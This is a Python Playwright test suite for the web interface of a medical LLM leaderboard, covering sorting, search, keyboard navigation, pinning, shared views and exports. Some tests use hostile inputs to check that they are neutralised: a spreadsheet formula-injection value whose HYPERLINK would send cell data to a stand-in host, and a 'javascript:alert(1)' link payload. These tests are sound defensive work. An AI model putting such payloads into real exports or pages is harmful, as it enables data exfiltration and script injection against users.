"""The board in a real Chromium."""

import csv
import io
import json
import re
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import Browser, Locator, Page, expect

from evalboard.records.board_files import Filling, SubjectColumn
from evalboard.records.columns import COLUMNS
from evalboard.records.notice import Notice, NoticeKind
from evalboard.records.reported import ReportedRow, ReportedScore
from tests.leaderboard_app.browsing import browse, wait_for_styles

MakeRow = Callable[..., Any]


def rows_of(page: Page) -> Locator:
    return page.locator("board-table tbody tr[data-place]")


def names(page: Page) -> list[str]:
    return page.locator("board-table tbody .name").all_text_contents()


def heads(page: Page) -> list[str | None]:
    cells = page.locator("board-table thead th").all()
    return [cell.get_attribute("data-key") for cell in cells]


def open_menu(page: Page, name: str) -> None:
    page.locator("board-table summary").filter(has_text=name).click()


def saved(page: Page, label: str) -> tuple[str, str]:
    """Return name and content of what a button of the download menu saves."""
    open_menu(page, "Download")
    with page.expect_download() as download:
        page.get_by_role("button", name=label).click()
    content = Path(download.value.path()).read_bytes().decode()
    page.keyboard.press("Escape")
    return download.value.suggested_filename, content


def test_board_sorts_searches_and_stays_current(
    page: Page, board_folder: Any, make_row: MakeRow, hostile_name: str
) -> None:
    best, middle = make_row("acme/best", 0.8), make_row("acme/middle", 0.6, pubmedqa=0.99)
    part = make_row("beta/part", 0.7, lacks=["pubmedqa"])
    hostile = make_row(hostile_name, 0.3, license=hostile_name, sender=hostile_name)
    lacking = Filling(key="pubmedqa", title="PubMedQA", have=3, of=4)
    board_folder.write_board([hostile, part, middle, best], filling=[lacking])
    page.goto("/")

    rows = rows_of(page)
    expect(rows).to_have_count(4)
    expect(page.locator("#shell")).to_have_count(0)
    expect(page.locator("board-table .filling")).to_have_text("3 of 4 models have PubMedQA")
    assert names(page) == ["acme/best", "acme/middle", hostile_name, "beta/part"]
    expect(rows.nth(3)).to_contain_text("incomplete 8/9")
    expect(rows.nth(3).locator("td.pubmedqa")).to_have_text("—")
    medmcqa = rows.nth(0).locator("td.medmcqa")
    error = 100 * best["medmcqa__stderr"]
    expect(medmcqa).to_have_text(f"{100 * best['medmcqa']:.1f} ±{error:.1f}")
    says = f"MedMCQA: {100 * best['medmcqa']:.2f} %, standard error {error:.2f}, 4,183 questions"
    expect(medmcqa).to_have_attribute("title", says)
    link = page.get_by_role("link", name="acme/best", exact=True)
    expect(link).to_have_attribute("href", re.compile(r"^model\?id=acme%2Fbest&"))
    hub = page.get_by_role("link", name="acme/best on Hugging Face")
    expect(hub).to_have_attribute("href", "https://huggingface.co/acme/best")

    page.get_by_role("button", name="PubMedQA").click()
    assert names(page)[0] == "acme/middle"
    assert names(page)[-1] == "beta/part"
    expect(page.locator("th.pubmedqa")).to_have_attribute("aria-sort", "descending")
    page.get_by_role("button", name="PubMedQA").click()
    assert names(page) == [hostile_name, "acme/best", "acme/middle", "beta/part"]

    search = page.get_by_role("searchbox")
    search.fill("ACM ; @nonsense:x")
    expect(rows).to_have_count(2)
    expect(page.locator("board-table .count")).to_contain_text("2 of 4 models")
    expect(page.locator("board-table mark")).to_have_text(["acm", "acm"])
    expect(page.locator("board-table .hint")).to_have_text("“nonsense” is not a search field.")

    board_folder.write_board([best, middle, part, hostile, make_row("acme/new", 0.9)])
    expect(rows).to_have_count(3)
    search.fill("no such model")
    nothing = page.get_by_role("heading", name="No model matches").bounding_box()
    assert nothing is not None
    assert nothing["y"] < 350
    page.get_by_role("button", name="Show all models").click()
    expect(rows).to_have_count(5)

    expect(page.locator("board-table img")).to_have_count(0)
    expect(page).to_have_title("Open Medical-LLM Leaderboard")


@pytest.mark.parametrize("query", ["", "?sort=-average"])
def test_the_first_rows_need_no_script(
    browser: Browser, viewer_address: str, board_folder: Any, make_row: MakeRow, query: str
) -> None:
    first = make_row("org/first", 0.9, average=0.9)
    board_folder.write_board([make_row("org/second", 0.5), first])
    with browse(browser, viewer_address, java_script_enabled=False) as page:
        page.goto(f"/{query}")
        rows = page.locator("tbody tr")
        expect(rows).to_have_count(2)
        expect(rows.first).to_have_text(re.compile(r"^\s*1\s+org/first\s+90\.0"))
        expect(page.get_by_role("link", name="org/first")).to_be_visible()


def test_a_phone_cuts_no_figure_of_the_first_rows(
    page: Page, board_folder: Any, make_row: MakeRow
) -> None:
    board_folder.write_board([make_row("organisation/a-model-8B-Instruct", 0.9, average=0.9)])
    page.set_viewport_size({"width": 390, "height": 844})
    page.route("**/assets/**", lambda route: route.abort())  # the table never comes
    page.goto("/")
    cells = page.locator("#shell tbody tr").first.locator(":is(td, th):visible")
    expect(cells).to_have_count(4)
    expect(cells.nth(2)).to_have_text("90.0")
    cut = "cells => cells.filter((cell) => cell.scrollWidth > cell.clientWidth).length"
    assert cells.evaluate_all(cut) == 0


def test_a_group_opens_into_its_subjects_by_keyboard(
    page: Page, board_folder: Any, make_row: MakeRow
) -> None:
    subjects = {
        "medmcqa": [
            SubjectColumn(key="surgery", title="MedMCQA: surgery", n=369),
            SubjectColumn(key="skin", title="MedMCQA: skin", n=17),
        ]
    }
    rows = [
        make_row("acme/best", 0.8, surgery=0.1, surgery__stderr=0.01, skin=0.9),
        make_row("acme/other", 0.4, surgery=0.7, surgery__stderr=0.02, skin=0.2),
    ]
    board_folder.write_board(rows, subjects=subjects)
    page.goto("/")
    opener = page.get_by_role("button", name="2 subjects of MedMCQA")
    expect(opener).to_have_attribute("aria-expanded", "false")
    closed = heads(page)

    page.get_by_role("button", name="MedMCQA", exact=True).focus()
    page.keyboard.press("ArrowRight")
    expect(opener).to_be_focused()
    page.keyboard.press("Enter")
    expect(opener).to_have_attribute("aria-expanded", "true")
    expect(opener).to_be_focused()
    assert len(heads(page)) == len(closed) + 2
    expect(page.locator("td.surgery")).to_have_text(["10.0 ±1.0", "70.0 ±2.0"])
    expect(page.locator("td.surgery").first).to_have_attribute(
        "title", "MedMCQA: surgery: 10.00 %, standard error 1.00, 369 questions"
    )

    page.get_by_role("button", name="MedMCQA: surgery").click()
    assert names(page) == ["acme/other", "acme/best"]
    board_folder.write_board([*rows, make_row("acme/new", 0.9, surgery=0.4)], subjects=subjects)
    expect(rows_of(page)).to_have_count(3)
    assert names(page) == ["acme/other", "acme/new", "acme/best"]

    opener.click()
    assert heads(page) == closed
    expect(page.locator("th.medmcqa")).to_have_attribute("aria-sort", "descending")
    assert names(page) == ["acme/new", "acme/best", "acme/other"]


def test_only_rows_in_sight_are_drawn_and_arrow_keys_reach_all(
    page: Page, board_folder: Any, make_row: MakeRow
) -> None:
    board_folder.write_board([make_row(f"org/m{n}", 0.9 - n / 1000) for n in range(450)])
    page.goto("/")
    rows = rows_of(page)
    wait_for_styles(page)
    expect(rows).not_to_have_count(0)
    page.wait_for_function(
        "() => document.querySelectorAll('board-table tbody tr[data-place]').length < 80"
    )
    grid = page.get_by_role("grid", name="Board")
    expect(grid).to_have_attribute("aria-rowcount", "451")
    expect(page.locator("board-table table [tabindex='0']")).to_have_text("Rank")

    head = page.get_by_role("button", name="Rank")
    head.focus()
    page.keyboard.press("ArrowDown")
    expect(rows.first.locator("td.rank")).to_be_focused()
    page.keyboard.press("ArrowLeft")
    pin = page.get_by_role("button", name="Pin org/m", exact=False).first
    expect(pin).to_be_focused()
    page.keyboard.press("ArrowRight")
    page.keyboard.press("ArrowRight")
    expect(rows.first.locator("a.name")).to_be_focused()
    page.keyboard.press("Control+End")
    last = page.locator("tr[aria-rowindex='451']")
    expect(last.locator("td").last).to_be_focused()
    expect(last.locator("td.rank")).to_have_text("450")
    expect(last).to_be_in_viewport()
    fixed = last.locator("th.model").bounding_box()
    assert fixed is not None
    assert 0 < fixed["x"] < 300
    page.keyboard.press("PageUp")
    expect(last.locator("td").last).not_to_be_focused()
    assert page.evaluate("document.activeElement.closest('tr').ariaRowIndex") is not None
    page.keyboard.press("Control+Home")
    expect(head).to_be_focused()
    page.keyboard.press("Enter")
    expect(page.locator("th.rank")).to_have_attribute("aria-sort", "descending")
    expect(rows.first.locator("td.rank")).to_have_text("450")
    expect(head).to_be_focused()
    page.keyboard.press("/")
    expect(page.get_by_role("searchbox")).to_be_focused()
    expect(page.get_by_role("searchbox")).to_have_value("")


def test_back_and_the_navigation_lead_to_the_place_and_the_view(
    page: Page, board_folder: Any, make_row: MakeRow
) -> None:
    board_folder.write_board([make_row(f"org/m{n}", 0.9 - n / 1000) for n in range(450)])
    page.goto("/?sort=-medmcqa&lang=en")
    expect(rows_of(page)).not_to_have_count(0)
    wait_for_styles(page)
    scroller = page.locator("board-table .scroll")
    scroller.evaluate("scroller => { scroller.scrollTop = 7200; }")
    page.wait_for_function("sessionStorage.getItem('board /')?.includes('7200')")
    page.locator("tr[data-place='203'] .name").click()
    page.locator("model-page h1").wait_for()
    assert "benchmark=medmcqa" in page.url
    page.go_back()
    row = page.locator("tr[data-place='203']")
    expect(row).to_be_in_viewport()
    page.get_by_role("link", name="Queue").click()
    page.locator("queue-list .notice").wait_for()
    page.get_by_role("link", name="Board", exact=True).click()
    expect(page).to_have_url(re.compile("sort=-medmcqa"))
    expect(row).to_be_in_viewport()

    for button in page.locator("board-table tbody:not(.pinned) button.pin").all()[12:19]:
        button.dispatch_event("click")
    expect(page.locator("board-table .pins")).to_contain_text("at most six models")

    page.set_viewport_size({"width": 1047, "height": 718})
    page.emulate_media(media="print")
    page.evaluate("dispatchEvent(new Event('beforeprint'))")
    expect(rows_of(page)).to_have_count(450)
    expect(page.locator("board-table .tools")).to_be_hidden()
    interval = page.locator("td.medmcqa").first
    expect(interval).to_have_css("print-color-adjust", "exact")
    assert page.evaluate("document.querySelector('table.board').scrollWidth") <= 1047
    page.emulate_media(media="screen")
    page.evaluate("dispatchEvent(new Event('afterprint'))")
    expect(rows_of(page)).not_to_have_count(450)


_CUT = """() => [...document.querySelectorAll("thead th, .type, td.average, td.average .mark")]
  .filter((cell) => cell.scrollWidth > cell.clientWidth).map((cell) => cell.textContent)"""


_LOOKS = """cell => {
  const { backgroundImage, backgroundColor } = getComputedStyle(cell);
  return [backgroundImage, backgroundColor];
}"""


def test_a_phone_shows_what_counts_and_a_wide_screen_everything(
    page: Page, board_folder: Any, make_row: MakeRow
) -> None:
    rows = [make_row(f"organisation/model-{n}", 0.5, model_type="fine-tuned") for n in range(8)]
    part = make_row("a/part", 0.5, lacks=["medmcqa"])
    board_folder.write_board([make_row("a/flagged", 0.6, flags=["mixed_x"]), *rows, part])
    page.set_viewport_size({"width": 390, "height": 844})
    page.goto("/?sort=-pubmedqa&lang=de")
    expect(rows_of(page)).to_have_count(10)
    wait_for_styles(page)
    assert heads(page)[:3] == ["model", "average", "pubmedqa"]
    row = rows_of(page).filter(has_text="flagged")
    shown = row.locator(".name, .narrow, .mark, td.average, td.pubmedqa")
    boxes = [place.bounding_box() for place in [*shown.all(), page.locator(".sizes .chip").last]]
    assert len(boxes) == 6
    assert all(box and 0 <= box["x"] and box["x"] + box["width"] <= 390 for box in boxes)
    page.locator("th.average button").click()
    assert heads(page)[:3] == ["model", "average", "medmcqa"]

    page.set_viewport_size({"width": 2560, "height": 900})
    expect(page.locator("th").first).to_have_attribute("data-key", "pin")
    table = page.locator("board-table .scroll").bounding_box()
    assert table is not None
    assert table["width"] > 2400
    assert table["height"] < 600
    assert page.evaluate(_CUT) == []

    page.locator("th.pubmedqa button").click()
    sorted_cell = rows_of(page).first.locator("td.pubmedqa")
    looks = [sorted_cell.evaluate(_LOOKS)]
    sorted_cell.hover()
    looks.append(sorted_cell.evaluate(_LOOKS))
    assert looks[0] == looks[1]
    assert "linear-gradient" in looks[0][0]


def test_the_first_board_appears_in_an_open_page(
    page: Page, board_folder: Any, make_row: MakeRow
) -> None:
    page.goto("/")
    expect(page.get_by_role("heading", name="No model on the board yet")).to_be_visible()
    board_folder.write_board([make_row("acme/first", 0.5)])
    expect(rows_of(page)).to_have_count(1)
    expect(page.get_by_role("heading", name="No model on the board yet")).to_have_count(0)


def test_a_link_shows_the_same_view_to_somebody_else(
    page: Page, board_folder: Any, make_row: MakeRow
) -> None:
    board_folder.write_board(
        [
            make_row("a/chat-small", 0.5, model_type="chat", params_billion=2.5),
            make_row("a/chat-big", 0.9, model_type="chat", params_billion=70.0, medmcqa=0.3),
            make_row("b/merge", 0.7, model_type="merge", params_billion=5.0, flags=["mixed_x"]),
            make_row(
                "c/chat-mid", 0.6, model_type="chat", params_billion=5.0, medmcqa__normalised=0.867
            ),
            make_row("d/chat-mid", 0.4, model_type="chat", params_billion=6.5, precision="4bit"),
        ]
    )
    page.goto("/?lang=en")
    rows = rows_of(page)
    expect(rows).to_have_count(5)
    page.get_by_role("button", name="Pin b/merge to the top").click()
    page.get_by_role("button", name="Pin a/chat-small to the top").click()
    pair = page.get_by_role("link", name="Compare the 2 pinned models")
    expect(pair).not_to_have_attribute("href", re.compile("benchmark="))
    page.get_by_role("button", name="3 to 10B").click()
    open_menu(page, "Filters")
    page.get_by_role("group", name="Type").get_by_label("chat").check()
    page.keyboard.press("Escape")
    open_menu(page, "Columns")
    page.get_by_role("group", name="Exams").get_by_label("MedQA").uncheck()
    page.get_by_label("Architecture").check()
    page.keyboard.press("Escape")
    open_menu(page, "Display")
    page.get_by_label("normalised").check()
    page.get_by_label("over the benchmarks shown").check()
    page.get_by_label("± standard error").uncheck()
    page.keyboard.press("Escape")
    page.get_by_role("button", name="MedMCQA").click()
    expect(pair).to_have_attribute("href", re.compile("&benchmark=medmcqa&"))
    page.get_by_role("searchbox").fill("chat;nothing")

    def look() -> list[Any]:
        count = page.locator("board-table .count").text_content()
        sort = page.locator("th.medmcqa").get_attribute("aria-sort")
        return [names(page), heads(page), rows.all_text_contents(), count, sort]

    expect(page.locator("board-table mark")).to_have_count(3)
    page.wait_for_url(re.compile("q=chat"))
    before = look()
    assert before[0] == ["b/merge", "a/chat-small", "c/chat-mid", "d/chat-mid"]
    assert "architecture" in before[1]
    assert "medqa_4options" not in before[1]
    assert before[3].startswith("2 of 5 models")
    assert before[4] == "descending"
    assert "lang=en" in page.url
    expect(rows.nth(2).locator("td.rank")).to_have_text("1")
    expect(rows.nth(2).locator("td.medmcqa")).to_have_text("86.7")

    address = page.url
    page.goto("about:blank")
    page.goto(address)
    expect(rows).to_have_count(4)
    assert look() == before
    expect(page.get_by_role("searchbox")).to_have_value("chat;nothing")
    expect(page.get_by_role("button", name="3 to 10B", exact=True)).to_have_attribute(
        "aria-pressed", "true"
    )
    expect(page.locator("summary").filter(has_text="Filters (2)")).to_be_visible()


def test_a_pin_follows_its_model_when_ranks_move(
    page: Page, board_folder: Any, make_row: MakeRow
) -> None:
    old = [make_row("a/one", 0.9), make_row("a/two", 0.5), make_row("a/two", 0.4, precision="4bit")]
    board_folder.write_board(old)
    page.goto("/")
    expect(rows_of(page)).to_have_count(3)
    page.get_by_role("button", name="Pin a/two to the top").last.click()
    pinned = page.locator("tbody.pinned tr")
    pinned.locator("td.precision").scroll_into_view_if_needed()
    expect(pinned.locator("td.precision")).to_have_text("4bit")
    board_folder.write_board([*old, make_row("a/new", 0.7)])
    expect(rows_of(page)).to_have_count(4)
    expect(pinned.locator("td.precision")).to_have_text("4bit")
    expect(pinned.locator("td.rank")).to_have_text("4")
    page.get_by_role("button", name="Unpin all").click()
    expect(pinned).to_have_count(0)


def test_a_view_is_saved_as_csv_and_json_without_formulas(
    page: Page, board_folder: Any, make_row: MakeRow
) -> None:
    formula = '=HYPERLINK("http://x.test?"&A1,"click")/x'
    board_folder.write_board([make_row(formula, 0.5, license="@SUM(1)"), make_row("b/b", 0.4)])
    page.goto("/?sort=-medmcqa")
    expect(rows_of(page)).to_have_count(2)
    name, text = saved(page, "This view as CSV")
    assert name == "open-medical-board.csv"
    records = list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"), newline="")))
    assert [record["model"] for record in records] == [f"'{formula}", "b/b"]
    assert records[0]["license"] == "'@SUM(1)"
    assert 0 < float(records[0]["medmcqa"]) < 1
    assert float(records[0]["medmcqa__stderr"]) > 0
    assert "pin" not in records[0]
    name, text = saved(page, "This view as JSON")
    assert name == "open-medical-board.json"
    document = json.loads(text)
    assert [row["model"] for row in document["rows"]] == [formula, "b/b"]
    assert document["view"] == page.url
    page.context.grant_permissions(["clipboard-read", "clipboard-write"])
    open_menu(page, "Download")
    page.get_by_role("button", name="Copy this view as Markdown").click()
    expect(page.locator("board-table .count")).to_have_text("Copied")
    lines = page.evaluate("navigator.clipboard.readText()").splitlines()
    assert lines[0].startswith("| Rank | Model |")
    assert lines[3].startswith("| 2 | b/b |")
    assert f" {100 * float(records[1]['medmcqa']):.1f} |" in lines[3]


# Before the page looks again, four seconds after it had the board.
_TIMES_FETCHED = """ending => {
  const all = performance.getEntriesByType("resource").filter(entry => entry.name.endsWith(ending));
  return all.filter(entry => entry.startTime < all[0].responseEnd + 3000).length;
}"""


def test_the_board_and_its_scripts_are_fetched_once(
    page: Page, board_folder: Any, make_row: MakeRow
) -> None:
    board_folder.write_board([make_row("org/model", 0.5)])
    page.goto("/")
    page.get_by_role("link", name="org/model").first.wait_for()
    assert times_fetched(page, "/ui/board.js") == 1
    assert times_fetched(page, "/data/board.json") == 1


def times_fetched(page: Page, ending: str) -> int:
    """Return how often the page has fetched something; Chromium notes it only after the page has it."""
    return page.wait_for_function(_TIMES_FETCHED, arg=ending).json_value()


def test_what_a_board_gains_appears_by_itself(
    page: Page, board_folder: Any, make_row: MakeRow
) -> None:
    board_folder.write_board([make_row("a/a", 0.5)])
    page.goto("/?columns=medmcqa,merged,medmcqa__n,use_chat_template")
    expect(rows_of(page)).to_have_count(1)
    assert heads(page) == ["pin", "rank", "model", "average", "medmcqa", *heads(page)[5:]]
    assert "merged" not in heads(page)
    open_menu(page, "Filters")
    lower = page.get_by_label("from", exact=True)
    lower.fill("10")
    page.get_by_label("to", exact=True).fill("3")
    expect(page.locator("board-table .hint")).to_contain_text("the first number is larger")
    lower.fill("")
    certain = {"medmcqa": 1.0, "medmcqa__stderr": 0.0, "medmcqa__low": 0.97}
    new = make_row("a/a", 0.5, use_chat_template=True, merged=True, params_billion=2.0, **certain)
    board_folder.write_board([new])
    expect(page.locator("td.merged")).to_have_text("yes")
    expect(page.locator("td.medmcqa")).to_have_text("100.0 ≥97.0")
    expect(lower).to_be_focused()
    page.keyboard.press("Escape")
    expect(page.locator("td.medmcqa__n")).to_have_text("4,183")
    expect(page.locator("td.use_chat_template")).to_have_text("yes")
    open_menu(page, "Filters")
    page.locator(".panel.filters").get_by_label("Merged").check()
    expect(page.get_by_role("heading", name="No model matches")).to_be_visible()


def test_every_kind_of_column_can_be_shown(
    page: Page, board_folder: Any, make_row: MakeRow
) -> None:
    values: dict[str, Any] = {"count": 7, "amount": 1.234, "share": 0.25, "points": 1.5}
    values |= {"params": 7.0, "yes": True}
    shown = {"count": "7", "amount": "1.23", "share": "25.0", "points": "+1.5"}
    shown |= {"params": "7 B", "yes": "yes"}
    kinds = {column.kind: column.key for column in COLUMNS if column.title}
    row = make_row("a/a", 0.5, flags=["cut_questions"])
    board_folder.write_board([row | {kinds[kind]: value for kind, value in values.items()}])
    kinds["code"] = "sha8"  # the page has the beginning only
    page.goto(f"/?lang=en&columns={','.join(kinds.values())}")
    expect(rows_of(page)).to_have_count(1)
    assert set(kinds.values()) <= set(heads(page))
    last = page.locator("board-table tbody tr[data-place] > :last-child")
    expect(last).to_be_empty()
    page.get_by_role("button", name="Rank").focus()
    for key in ("ArrowDown", "End"):
        page.keyboard.press(key)
    expect(last).to_be_focused()
    expect(last).not_to_be_empty()
    for kind, text in shown.items():
        cell = page.locator(f"td.{kinds[kind]}")
        cell.scroll_into_view_if_needed()
        expect(cell).to_have_text(text)


def test_scores_of_others_are_below_the_board_and_in_no_rank(
    page: Page, board_folder: Any, make_row: MakeRow, hostile_name: str
) -> None:
    paper = ReportedRow(
        model="GPT-4",
        setting="0-shot",
        source="A paper",
        link="https://x.org/paper",
        scores={"medmcqa": ReportedScore(value=0.9952)},
        average=0.99,
    )
    hostile = paper.model_copy(
        update={"model": hostile_name, "average": 0.5, "link": "javascript:alert(1)"}
    )
    board_folder.write_board([make_row("acme/best", 0.8)], reported=[paper, hostile])
    page.goto("/")

    expect(rows_of(page)).to_have_count(1)
    reported = page.locator("board-table .reported")
    expect(reported.locator("table")).not_to_be_visible()
    reported.locator("summary").click()
    rows = reported.locator("tbody tr")
    expect(rows).to_have_count(2)
    expect(rows.nth(0)).to_contain_text("GPT-4")
    expect(rows.nth(0).locator("td.number").nth(1)).to_have_text("99.5")
    expect(rows.nth(0).get_by_role("link")).to_have_attribute("href", "https://x.org/paper")
    expect(rows.nth(1).locator("th")).to_have_text(hostile_name)
    expect(rows.nth(1).get_by_role("link")).to_have_count(0)


def test_what_the_operator_says_is_on_the_board_and_on_the_models_page(
    page: Page, board_folder: Any, make_row: MakeRow, hostile_name: str
) -> None:
    flag = Notice(
        model="acme/old",
        kind=NoticeKind.FLAGGED,
        reason=hostile_name,
        link="https://x.org/discussion",
    )
    lost = Notice(model="acme/lost", kind=NoticeKind.NOT_ON_HUB, time="2026-12-01T04:17:00Z")
    rows = [
        make_row("acme/old", 0.8, flags=["flagged"]),
        make_row("acme/lost", 0.7, flags=["not_on_hub"]),
    ]
    board_folder.write_board(rows, notices=[flag, lost])
    page.goto("/")
    said = f"Flagged by the operator of this board: {hostile_name}"
    old = rows_of(page).filter(has_text="acme/old")
    expect(old.get_by_role("img", name=said)).to_be_visible()
    gone = rows_of(page).filter(has_text="acme/lost").locator(".mark")
    expect(gone).to_have_attribute(
        "title", "Not on the Hub since 2026-12-01: deleted or made private."
    )
    expect(old.locator(".mark")).to_have_count(1)

    page.goto("/model?id=acme/old")
    expect(page.get_by_text(said)).to_be_visible()
    more = page.get_by_role("link", name="More")
    expect(more).to_have_attribute("href", "https://x.org/discussion")


def test_a_renamed_model_is_found_by_its_old_name(
    page: Page, board_folder: Any, make_row: MakeRow
) -> None:
    board_folder.write_board([make_row("acme/new", 0.8, former_names=["lab/old"])])
    page.goto("/?q=lab/old")
    expect(rows_of(page)).to_have_count(1)
    expect(rows_of(page)).to_contain_text("acme/new")

    page.goto("/model?id=lab/old")
    expect(page.get_by_role("heading", name="acme/new")).to_be_visible()
    expect(page.get_by_text("formerly lab/old")).to_be_visible()
